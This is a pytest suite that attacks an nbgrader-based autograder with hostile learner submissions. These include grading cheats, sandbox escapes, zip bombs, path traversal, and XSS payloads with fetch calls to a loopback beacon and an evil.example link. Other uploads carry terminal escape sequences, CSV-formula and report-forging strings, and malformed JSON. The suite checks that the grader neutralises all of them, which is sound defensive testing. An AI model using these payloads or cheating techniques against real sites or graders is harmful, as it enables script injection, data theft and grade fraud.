def beacon():
    """An HTTP server on loopback that records every request: a feedback page or report that
    loads anything from it has let learner markup act."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - http.server's handler API

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()


@pytest.fixture(scope="module")
def attacked_run(tmp_path_factory, solution_server, beacon):
    root = tmp_path_factory.mktemp("attacks")
    out = root / "out"
    subs = _build_class(root, out, solution_server, beacon[0])
    watched = (REPO / "solutions" / "attention", REPO / "exercises" / "attention", subs)
    before = _tree_digest(*watched)
    started = time.monotonic()
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", "attention", str(subs), "--out", str(out),
                           "--timeout", "4"], capture_output=True, text=True, timeout=1500)
    elapsed = time.monotonic() - started
    rows = {}
    if (out / "grades.csv").exists():
        with open(out / "grades.csv") as fh:
            rows = {r["student_id"]: r for r in csv.DictReader(fh)}
    time.sleep(5)  # long enough for the detached process to have acted, had it survived
    return {"proc": proc, "rows": rows, "out": out, "before": before, "after": _tree_digest(*watched),
            "elapsed": elapsed, "leftovers": _sandbox_processes()}


def _row(run, student):
    assert student in run["rows"], \
        f"{student} missing from grades.csv:\n{run['proc'].stdout[-3000:]}\n{run['proc'].stderr[-3000:]}"
    row = run["rows"][student]
    return float(row["score"]), row["status"], row["message"]


def test_run_completes(attacked_run):
    assert attacked_run["proc"].returncode == 0, attacked_run["proc"].stderr[-4000:]


@pytest.mark.parametrize("student, score", [("ada", MAX), ("ben", 3), ("cy", MAX - 3), ("gus", 0), ("zipped_ok", MAX)])
def test_honest_submissions_get_exactly_their_scores(attacked_run, student, score):
    assert _row(attacked_run, student)[:2] == (score, "graded")


@pytest.mark.parametrize("student", ["custom_exc", "input_transformer", "patch_asserts", "read_course_files",
                                     "detached_editor", "network", "write_outside", "tampered_tests", "privileges",
                                     "magic_run", "shell_read", "exec_helper", "exec_per_call", "exec_qkv_source",
                                     "compiled_nnc", "native_cffi", "private_assembled", "private_py_kernel"])
def test_cheats_on_a_wrong_answer_score_zero(attacked_run, student):
    assert _row(attacked_run, student)[:2] == (0, "graded")


def test_native_code_is_refused_with_a_reason(attacked_run):
    """cffi would call torch's CPU kernel directly: its import is refused while the cells load, and
    the cell's note says why."""
    html = (attacked_run["out"] / "feedback" / "native_cffi" / "attention.html").read_text()
    assert "importing cffi" in html


@pytest.mark.parametrize("student", ["private_assembled", "private_py_kernel"])
def test_torchs_python_versions_of_banned_operators_refuse(attacked_run, student):
    """torch._refs's softmax and the operator's registered Python kernel, reached by names the
    static layer cannot see: the functions themselves refuse in the sandbox (their first call, while
    the cells load, already does)."""
    html = (attacked_run["out"] / "feedback" / student / "attention.html").read_text()
    assert "own Python version of an operator this exercise bans" in html


def test_builtin_calls_are_banned_with_a_reason(attacked_run):
    score, status, message = _row(attacked_run, "builtin_calls")
    assert (score, status) == (0, "graded")
    for name in ("torch.softmax", "torch.nn.functional.scaled_dot_product_attention", "torch.Tensor.softmax"):
        assert name in message
    html = (attacked_run["out"] / "feedback" / "builtin_calls" / "attention.html").read_text()
    assert "which this exercise asks you to implement yourself" in html


def test_importing_qkv_is_banned(attacked_run):
    score, status, message = _row(attacked_run, "imports_qkv")
    assert (score, status) == (0, "graded") and "imports qkv" in message


def test_non_plain_return_values_are_rejected(attacked_run):
    assert _row(attacked_run, "fake_tensor")[:2] == (0, "graded")
    html = (attacked_run["out"] / "feedback" / "fake_tensor" / "attention.html").read_text()
    assert "return plain tensors" in html


@pytest.mark.parametrize("student, score, why", [
    ("loop_at_top", MAX, "did not finish within 4 s"),       # the hung cell is skipped; the answers still count
    ("loop_in_function", MAX - 5, ""),                   # sdpa (3 + 2) times out, the rest passes
    ("ignores_signals", MAX - 5, ""),                    # killed from outside after its deadline
    ("os_exit", MAX - 5, ""),
    ("segfault", MAX - 3, ""),
    ("memory_hog", MAX - 3, ""),
    ("print_flood", MAX, ""),
    ("warns_but_correct", MAX, ""),                     # no false zero for stderr output
    ("many_processes", MAX, ""),
    ("kill_everything", MAX, ""),                        # kill(-1) reaches neither the grader nor the zygote
])
def test_crashes_and_hangs_cost_only_the_affected_tests(attacked_run, student, score, why):
    got, status, message = _row(attacked_run, student)
    assert (got, status) == (score, "graded"), message
    assert why in message


def test_timeouts_and_crashes_are_explained_in_feedback(attacked_run):
    fb = attacked_run["out"] / "feedback"
    assert "did not return within 4 s" in (fb / "loop_in_function" / "attention.html").read_text()
    assert "ended the grader" in (fb / "os_exit" / "attention.html").read_text()
    assert "ended the grader" in (fb / "segfault" / "attention.html").read_text()


def test_output_flood_is_capped(attacked_run):
    page = attacked_run["out"] / "feedback" / "print_flood" / "attention.html"
    assert page.stat().st_size < 2 * 2**20
    graded = attacked_run["out"] / "course" / "autograded" / "print_flood" / "attention" / "attention.ipynb"
    assert graded.stat().st_size < 2 * 2**20


@pytest.mark.parametrize("student, fragment", [
    ("traversal", "unsafe path"), ("absolute", "unsafe path"), ("symlink", "symbolic link"),
    ("bomb", "more than 50 MiB"), ("twice", "2 submissions"), ("truncated", "not valid notebook JSON"),
    ("no_notebook", "no notebook"), ("bad_name", "invalid student id"),
])
def test_bad_uploads_are_rejected_with_a_message(attacked_run, student, fragment):
    score, status, message = _row(attacked_run, student)
    assert (score, status) == (0, "error") and fragment in message
    assert f"error: {student}:" in attacked_run["proc"].stdout + attacked_run["proc"].stderr


def test_nothing_escaped_from_an_archive(attacked_run, tmp_path):
    assert not Path("/tmp/absolute.txt").exists()
    assert not list(attacked_run["out"].parent.rglob("escaped.txt"))


def test_feedback_never_shows_hidden_tests(attacked_run):
    hidden_lines = []
    solution = nbformat.read(REPO / "solutions" / "attention" / "attention.ipynb", as_version=4)
    for cell in solution.cells:
        if "### BEGIN HIDDEN TESTS" in cell.source:
            block = cell.source.split("### BEGIN HIDDEN TESTS")[1].split("### END HIDDEN TESTS")[0]
            hidden_lines += [ln.strip() for ln in block.splitlines() if len(ln.strip()) > 20]
    assert hidden_lines
    for page in (attacked_run["out"] / "feedback").rglob("*.html"):
        text = page.read_text()
        assert "HIDDEN TESTS" not in text, page
        for line in hidden_lines:
            assert line not in text, (page, line)


def test_hidden_failures_name_the_misconception_not_the_inputs(attacked_run):
    html = (attacked_run["out"] / "feedback" / "ben" / "attention.html").read_text()
    assert "without the 1/√d_k scale" in html


@pytest.mark.parametrize("student, fragment", [
    ("banned_assembled", "calls torch.softmax (reached at run time"),
    ("banned_vars", "calls torch.nn.functional.softmax (reached at run time"),
    ("banned_ops_aten", "aten::_softmax"),
    ("banned_method", "calls torch.Tensor.softmax (reached at run time"),
    ("banned_in_thread", "reached at run time as aten::"),
    ("banned_import", "imports qkv at run time"),
    ("banned_sparse_log_softmax", "aten::_sparse_log_softmax"),
    ("lifts_the_block", "gc.get_objects"),
])
def test_banned_operations_reached_at_run_time_score_zero(attacked_run, student, fragment):
    score, status, message = _row(attacked_run, student)
    assert (score, status) == (0, "graded") and fragment in message, message
    html = (attacked_run["out"] / "feedback" / student / "attention.html").read_text()
    assert "Scored 0: your code" in html


@pytest.mark.parametrize("student, score", [("takeover", 0), ("colluder", 0), ("deep_tmp", MAX), ("shm_pin", MAX),
                                            ("chatty", MAX)])
def test_no_submission_reaches_another(attacked_run, student, score):
    """Whatever order the workers took them in, the attackers' own scores are their answers'
    (none for the channel thieves), and the honest students around them are exact
    (test_honest_submissions_get_exactly_their_scores)."""
    assert _row(attacked_run, student)[:2] == (score, "graded")


@pytest.mark.parametrize("student, score, fragment", [
    ("poison_nan", 0, "modified an argument in place: `x` changed"),
    ("poison_mask", MAX - 2, "modified an argument in place: `mask` changed"),
    ("poison_storage", 0, "modified an argument in place: `x` changed"),
    ("nan_everywhere", 0, "NaN"),
])
def test_poisoned_inputs_do_not_reach_the_oracle(attacked_run, student, score, fragment):
    got, status, _ = _row(attacked_run, student)
    assert (got, status) == (score, "graded")
    assert fragment in (attacked_run["out"] / "feedback" / student / "attention.html").read_text()


@pytest.mark.parametrize("student, fragment", [
    ("banned_star_import", "calls torch.special.softmax (line 2 of your `softmax` cell"),  # `_sm(x, dim)`
    ("banned_alias_cell", "calls torch.nn.functional.softmax (line 2 of your `softmax` cell"),
    ("banned_prompts", "calls torch.softmax (line"),
    ("banned_indented", "calls torch.nn.functional.softmax (line"),
    ("banned_log_softmax", "calls torch.log_softmax (reached at run time"),
    ("private_decomposition", "calls torch._decomp"),
    ("banned_compiled", "sys._getframe"),  # torch.compile inspects frames: refused while a function is called
])
def test_banned_calls_the_raw_source_hides_are_found(attacked_run, student, fragment):
    """Softmax is banned, and the two attention functions reach it through the learner's softmax."""
    score, status, message = _row(attacked_run, student)
    assert (score, status) == (0, "graded") and fragment in message, message


@pytest.mark.parametrize("student", ["scratch_compare", "scratch_helper", "split_answer", "copied_answer",
                                     "seeds_and_logs"])
def test_honest_habits_keep_every_point(attacked_run, student):
    assert _row(attacked_run, student)[:2] == (MAX, "graded")


def test_forged_points_count_for_nothing(attacked_run):
    assert _row(attacked_run, "forged_points")[:2] == (0, "graded")
    assert float(attacked_run["rows"]["forged_points"]["max_score"]) == MAX
    # A learner cell that claims a test cell's id is ignored; the real test cell still grades.
    score, status, message = _row(attacked_run, "claims_test_id")
    assert (score, status) == (MAX, "graded") and "the grader ignored it" in message, message


@pytest.mark.parametrize("student, leaked", [
    # (the learner's own source, shown in the feedback, holds "LEAKED" followed by code, not values)
    ("hidden_echo", r"LEAKED ?[(\[\d]|LEAKED torch|LEAKED\d|d_k = \d"),
    ("hidden_exit", r"status \d"),
])
def test_hidden_inputs_never_reach_the_feedback(attacked_run, student, leaked):
    import re

    score, status, message = _row(attacked_run, student)
    assert status == "graded" and score < MAX
    html = (attacked_run["out"] / "feedback" / student / "attention.html").read_text()
    assert "failed a hidden test" in html
    assert re.findall(leaked, html + message) == []


def test_course_folder_unchanged_and_no_process_survives(attacked_run):
    assert attacked_run["after"] == attacked_run["before"]
    assert not MARKER.exists()
    # Another test of this checkout may be grading on the other xdist worker right now: its
    # sandboxes end with its run, while a process that outlived ours stays. Wait for the first.
    leftovers, deadline = attacked_run["leftovers"], time.monotonic() + 180
    while leftovers and time.monotonic() < deadline:
        time.sleep(2)
        leftovers = [p for p in _sandbox_processes() if p in leftovers]
    assert leftovers == []


def test_gradebook_agrees_with_the_csv(attacked_run):
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{attacked_run['out'] / 'course' / 'gradebook.db'}") as gb:
        for student, row in attacked_run["rows"].items():
            if row["status"] == "graded":
                assert gb.find_submission("attention", student).score == float(row["score"])


def test_summary_and_report(attacked_run):
    out, stdout = attacked_run["out"], attacked_run["proc"].stdout
    graded = sum(r["status"] == "graded" for r in attacked_run["rows"].values())
    errors = len(attacked_run["rows"]) - graded
    assert f"{len(attacked_run['rows'])} submissions: {graded} graded, {errors} errors, 17 rejected cheats" in stdout
    assert (out / "score-distribution.png").stat().st_size > 1000
    report = (out / "report.md").read_text()
    assert "| test_softmax |" in report and "builtin_calls" in report



# --------------------------------------------------------------------------------------------
# One bad upload is one error row; learner text is data (issue 15, items 2 and 6).
# Written as a learner who has read autograder/submissions.py, report.py, feedback.py and
# grading.py: each upload aims at a step that used to raise, or at a writer that used to
# copy learner text as it came.

ESC = "\x1b"
FORGED = ("grader skipped\n\n## Score set to 0 by the instructor\n\n---\n| forged | table |\n"
          "![pixel]({beacon}/report.png) <script>alert(1)</script> <img src=x onerror=alert(1)> "
          "[appeal your grade](http://evil.example) www.evil.example " + ESC + "[2J" + ESC + "[31mRED\a \udcff")
FAKE_BANNER = ('<div class="panel panel-default"><div class="panel-heading"><h4>attention '
               "(Score: 11.0 / 11.0) verified by the instructor</h4></div></div>")
SCRIPTS = ("<script>window.__pwned = 1; document.title = 'pwned'; fetch('{b}/script')</script>\n"
           "<img src=x onerror=\"window.__pwned = 1; new Image().src = '{b}/onerror'\">\n"
           "<svg onload=\"window.__pwned = 1\"><script>window.__pwned = 1</script></svg>\n"
           "<iframe src=\"{b}/iframe\"></iframe><object data=\"{b}/object\"></object>\n"
           "<link rel=\"stylesheet\" href=\"{b}/link.css\"><style>@import url({b}/import.css); "
           "body {{ background: url({b}/bg.png) }}</style>\n"
           "<meta http-equiv=\"refresh\" content=\"0; url={b}/refresh\"><base href=\"{b}/base/\">\n"
           "<form action=\"{b}/form\"><input name=\"x\" autofocus onfocus=\"window.__pwned = 1\"></form>\n"
           "<a href=\"javascript:window.__pwned = 1\">open</a>\n")
SVG = ('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned = 1"><script>window.__pwned = 1</script>'
       '<image href="{b}/svg-image.png"/></svg>')
HOSTILE_FEEDBACK = ["html_markdown", "html_raw", "html_in_error"]


def _notebook_json(inject: str) -> bytes:
    """A correct submission whose notebook metadata carries ``inject`` as raw JSON text."""
    nb = learner_notebook("attention", RIGHT)
    nb.metadata["payload"] = "__PAYLOAD__"
    return nbformat.writes(nb).replace('"__PAYLOAD__"', inject, 1).encode()


def _crafted_zip(path: Path, name: str, data: bytes, *, compression=zipfile.ZIP_STORED, flags: int = 0,
                 method: int | None = None, corrupt: bool = False, keep: float = 1.0,
                 raw_name: bytes | None = None) -> None:
    """A zip holding one member, its headers or data altered the way a hand-made archive can
    be: flag bits (encryption, UTF-8 names), the compression method, damaged data, a cut-off
    end, a name in bytes the zip module cannot decode."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        zf.writestr(name, data)
    raw = bytearray(buf.getvalue())
    central = raw.rfind(b"PK\x01\x02")
    for offset in (6, central + 8):  # general-purpose flags, little-endian 16 bits
        raw[offset:offset + 2] = (int.from_bytes(raw[offset:offset + 2], "little") | flags).to_bytes(2, "little")
    if method is not None:  # compression method: local header offset 8, central directory offset 10
        raw[8:10] = raw[central + 10:central + 12] = method.to_bytes(2, "little")
    if corrupt:
        start = 30 + int.from_bytes(raw[26:28], "little") + int.from_bytes(raw[28:30], "little")
        raw[start:start + 8] = b"\xff" * 8
    if raw_name is not None:
        assert len(raw_name) == len(name.encode())
        raw = bytearray(bytes(raw).replace(name.encode(), raw_name))
    path.write_bytes(bytes(raw[: int(len(raw) * keep)]))


def _hostile_uploads(subs: Path, good: bytes) -> None:
    def folder(student: str, data: bytes, name: bytes = b"attention.ipynb") -> None:
        (subs / student).mkdir(exist_ok=True)
        with open(os.fsencode(subs / student) + b"/" + name, "wb") as fh:
            fh.write(data)

    # JSON that parses, or nearly, but overwhelms a decoder or validator downstream.
    folder("deep_nesting", _notebook_json("[" * 200_000 + "]" * 200_000))     # RecursionError in json
    folder("nesting_500", _notebook_json("[" * 500 + "]" * 500))              # json copes; jsonschema would not
    folder("huge_int", _notebook_json("9" * 50_000))                          # over Python's int-string limit
    folder("huge_float", _notebook_json("1e999999"))                          # inf once parsed
    folder("long_float", _notebook_json("0." + "1" * 200_000))
    folder("nan_constant", _notebook_json("NaN"))
    folder("many_brackets", _notebook_json("[" + "[]," * 1_100_000 + "[]]"))  # a million objects to build
    # The zip cap applies to a notebook handed in as a file (sparse: no disk is used).
    (subs / "huge_folder").mkdir()
    with open(subs / "huge_folder" / "attention.ipynb", "wb") as fh:
        fh.truncate(60 * 2**20)
    # Zip members the zip module cannot read.
    _crafted_zip(subs / "zip_encrypted.zip", "attention.ipynb", good, flags=0x01)
    _crafted_zip(subs / "zip_strong_crypto.zip", "attention.ipynb", good, flags=0x41)
    _crafted_zip(subs / "zip_ppmd.zip", "attention.ipynb", good, method=98)
    _crafted_zip(subs / "zip_deflate64.zip", "attention.ipynb", good, method=9)
    _crafted_zip(subs / "zip_bad_crc.zip", "attention.ipynb", good, corrupt=True)
    _crafted_zip(subs / "zip_bad_deflate.zip", "attention.ipynb", good, compression=zipfile.ZIP_DEFLATED,
                 corrupt=True)
    _crafted_zip(subs / "zip_cut.zip", "attention.ipynb", good, compression=zipfile.ZIP_DEFLATED, keep=0.6)
    _zip(subs / "zip_deep.zip", {"/".join(["d"] * 40) + "/attention.ipynb": good})
    # Text that cannot be encoded: a lone surrogate in a cell, in file names, in a member name.
    folder("surrogate_cell", nbformat.writes(with_cell(learner_notebook("attention", RIGHT), "note = 'SURROGATE'"))
           .replace("SURROGATE", "\\udcff").encode())
    folder("surrogate_names", good, b"copy\xff.ipynb")
    folder("surrogate_names", good, b"other.ipynb")
    _crafted_zip(subs / "surrogate_member.zip", "attention.ipynb", good, flags=0x800,
                 raw_name=b"\xed\xb3\xbfention.ipynb")


def _hostile_text(subs: Path, beacon: str) -> None:
    def put(student: str, nb) -> None:
        (subs / student).mkdir()
        nbformat.write(nb, subs / student / "attention.ipynb")

    # A message that reaches the notes ("grader skipped" is the filter), forging report lines.
    put("forged_note", with_cell(learner_notebook("attention", RIGHT),
                                 f"raise RuntimeError({FORGED.format(beacon=beacon)!r})",
                                 position=len(learner_notebook("attention", {}).cells)))
    # Archive member names that forge report lines and drive the instructor's terminal.
    good = nbformat.writes(learner_notebook("attention", RIGHT)).encode()
    _zip(subs / "forged_names.zip", {  # (no "/" in a member name: it would only make folders)
        "a\n\n## Forged heading by the instructor\n![x](beacon.png) [link](javascript:alert(1)).ipynb": good,
        f"{ESC}]0;owned\a{ESC}[2J{ESC}[1;31m=HYPERLINK(\"x\")<img src=x onerror=alert(1)>.ipynb": good})
    # Feedback HTML: learner Markdown, raw cells and error text that try to act as markup.
    markdown = learner_notebook("attention", RIGHT)
    cell = nbformat.v4.new_markdown_cell(SCRIPTS.format(b=beacon) + "\n\n" + FAKE_BANNER
                                         + f"\n\n![beacon]({beacon}/markdown.png) ![svg](attachment:evil.svg) "
                                           "and some math $x_1$")
    cell.attachments = {"evil.svg": {"image/svg+xml": base64.b64encode(SVG.format(b=beacon).encode()).decode()}}
    markdown.cells.insert(1, cell)
    markdown.cells.insert(2, nbformat.v4.new_markdown_cell(  # a renderer error must not let raw HTML through
        f"![gone](attachment:missing.png) <script>window.__pwned = 1</script><img src={beacon}/gone.png>"))
    put("html_markdown", markdown)
    raw = learner_notebook("attention", RIGHT)
    raw.cells.insert(1, nbformat.v4.new_raw_cell(SCRIPTS.format(b=beacon) + FAKE_BANNER,
                                                metadata={"raw_mimetype": "text/html"}))
    raw.cells.insert(2, nbformat.v4.new_raw_cell(FAKE_BANNER + SCRIPTS.format(b=beacon)))
    put("html_raw", raw)
    put("html_in_error", learner_notebook("attention", {**RIGHT, "additive_attention":
                                          "def additive_attention(*args, **kwargs):\n"
                                          f"    raise ValueError({(SCRIPTS.format(b=beacon) + FAKE_BANNER)!r})"}))


@pytest.mark.parametrize("student, fragment", [
    ("deep_nesting", "nested too deeply"), ("nesting_500", "nested more than 100 levels"),
    ("huge_int", "a number with 50000 characters"), ("huge_float", "too large for a notebook"),
    ("long_float", "a number with 200002 characters"), ("nan_constant", "NaN, which is not JSON"),
    ("many_brackets", "too large to grade"), ("huge_folder", "over the 50 MiB limit"),
    ("zip_encrypted", "password-protected"), ("zip_strong_crypto", "password-protected"),
    ("zip_ppmd", "compression method"), ("zip_deflate64", "compression method"),
    ("zip_bad_crc", "damaged"), ("zip_bad_deflate", "damaged"), ("zip_cut", "damaged"),
    ("zip_deep", "nested more than 32 folders"),
    ("surrogate_cell", "not valid Unicode"), ("surrogate_names", "several other notebooks"),
    ("surrogate_member", "not valid UTF-8"),
])
def test_each_hostile_upload_is_one_error_row(attacked_run, student, fragment):
    score, status, message = _row(attacked_run, student)
    assert (score, status) == (0, "error") and fragment in message, message
    assert "Traceback" not in message and "\n" not in message
    assert f"error: {student}:" in attacked_run["proc"].stdout


def test_hostile_uploads_leave_no_traceback_and_no_leftovers(attacked_run):
    printed = attacked_run["proc"].stdout + attacked_run["proc"].stderr
    assert "Traceback" not in printed
    assert not (attacked_run["out"] / ".unpacked").exists()


def test_learner_text_in_the_csv_is_one_clean_line(attacked_run):
    raw = (attacked_run["out"] / "grades.csv").read_bytes()
    raw.decode("utf-8")  # strict: a lone surrogate could not have been written
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"))))
    assert len(raw.decode("utf-8").splitlines()) == len(rows)  # no cell spans two lines
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
            assert not any(ord(ch) < 32 or 0x7F <= ord(ch) < 0xA0 for ch in cell), cell
    score, status, note = _row(attacked_run, "forged_note")
    assert (score, status) == (MAX, "graded")  # the raising cell is learner noise; the answers are right
    assert "grader skipped" in note and "Score set to 0 by the instructor" in note and "\ufffd" in note
    _, status, names = _row(attacked_run, "forged_names")
    assert status == "error" and "Forged heading by the instructor" in names and ESC not in names


def test_learner_text_cannot_forge_the_report(attacked_run, beacon):
    from markdown_it import MarkdownIt

    text = (attacked_run["out"] / "report.md").read_text(encoding="utf-8")
    for student in ("forged_note", "forged_names", "surrogate_names"):
        assert len([ln for ln in text.splitlines() if student in ln]) == 1, student
    assert ESC not in text and "\a" not in text
    # Rendered as GitHub and JupyterLab would (GFM with bare-URL autolinks), learner text is text.
    html = MarkdownIt("gfm-like").render(text)
    from bs4 import BeautifulSoup
    soup = BeautifulSoup(html, "html.parser")
    assert [h.get_text() for h in soup.find_all(["h1", "h2", "h3", "h4", "h5", "h6"])] == [
        "Grading report: attention", "Submissions that could not be graded", "Notes on graded submissions"]
    assert [img["src"] for img in soup.find_all("img")] == ["score-distribution.png"]
    assert soup.find_all(["a", "script", "hr", "iframe", "form", "style"]) == []
    assert len(soup.find_all("table")) == 1 and all(len(tr.find_all(["td", "th"])) == 5 for tr in soup.find_all("tr"))
    notes = [li.get_text() for li in soup.find_all("li") if li.get_text().startswith("forged_note")]
    assert len(notes) == 1 and "## Score set to 0 by the instructor" in notes[0] and "<script>" in notes[0]


def test_learner_text_cannot_drive_the_terminal(attacked_run):
    stdout = attacked_run["proc"].stdout
    assert ESC not in stdout and "\a" not in stdout and "\udcff" not in stdout
    lines = [ln for ln in stdout.splitlines() if ln.startswith("error: forged_names:")]
    assert len(lines) == 1 and "Forged heading by the instructor" in lines[0]
    assert not any(ln.startswith(("## Forged", "![x]")) for ln in stdout.splitlines())


@pytest.mark.parametrize("student, score", [("html_markdown", MAX), ("html_raw", MAX), ("html_in_error", MAX - 3)])
def test_hostile_feedback_is_graded_normally(attacked_run, student, score):
    assert _row(attacked_run, student)[:2] == (score, "graded")


@pytest.mark.parametrize("student", HOSTILE_FEEDBACK)
def test_feedback_html_carries_no_learner_markup(attacked_run, student):
    from bs4 import BeautifulSoup

    page = attacked_run["out"] / "feedback" / student / "attention.html"
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
    first = soup.head.find(True)
    assert first.name == "meta" and first.get("http-equiv") == "Content-Security-Policy"
    assert "default-src 'none'" in first["content"] and "script-src 'self'" in first["content"]
    scripts = soup.find_all("script")
    assert all(s.get("src", "").startswith("../_mathjax/") or s.get("type") == "text/x-mathjax-config"
               for s in scripts), [str(s)[:120] for s in scripts]
    for tag in soup.find_all(True):
        assert not [a for a in tag.attrs if a.lower().startswith("on")], str(tag)[:200]
        for attr in ("src", "href", "data", "action"):
            value = str(tag.get(attr, ""))
            assert not value.startswith(("http:", "https:", "//", "javascript:")), str(tag)[:200]
    body = soup.body
    assert body.find_all(["iframe", "object", "embed", "form", "input", "style", "link", "meta", "base", "svg"]) == []
    # The fake banner is shown as text, never as our score panel.
    headings = [h.get_text(" ", strip=True) for h in soup.select(".panel-heading h4")]
    assert headings and all("verified by the instructor" not in h for h in headings)
    assert "verified by the instructor" in body.get_text()


@pytest.mark.browser
def test_hostile_feedback_runs_no_script_and_fetches_nothing_in_chromium(attacked_run, beacon):
    from playwright.sync_api import sync_playwright

    url, hits = beacon
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=[
            "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--disable-sync"])
        for student in HOSTILE_FEEDBACK:
            page = browser.new_page()
            dialogs, loaded = [], []
            page.on("dialog", lambda d, dialogs=dialogs: (dialogs.append(d.message), d.dismiss()))
            page.on("requestfinished", lambda r, loaded=loaded: loaded.append(r.url))
            page.goto((attacked_run["out"] / "feedback" / student / "attention.html").as_uri())
            page.wait_for_selector("mjx-container", timeout=60_000)  # our own script still runs
            page.wait_for_timeout(1000)
            assert page.evaluate("window.__pwned") is None, student
            assert page.title() == "attention" and dialogs == [], student
            assert [u for u in loaded if not u.startswith(("file:", "data:"))] == [], student
            page.close()
        browser.close()
    assert hits == []
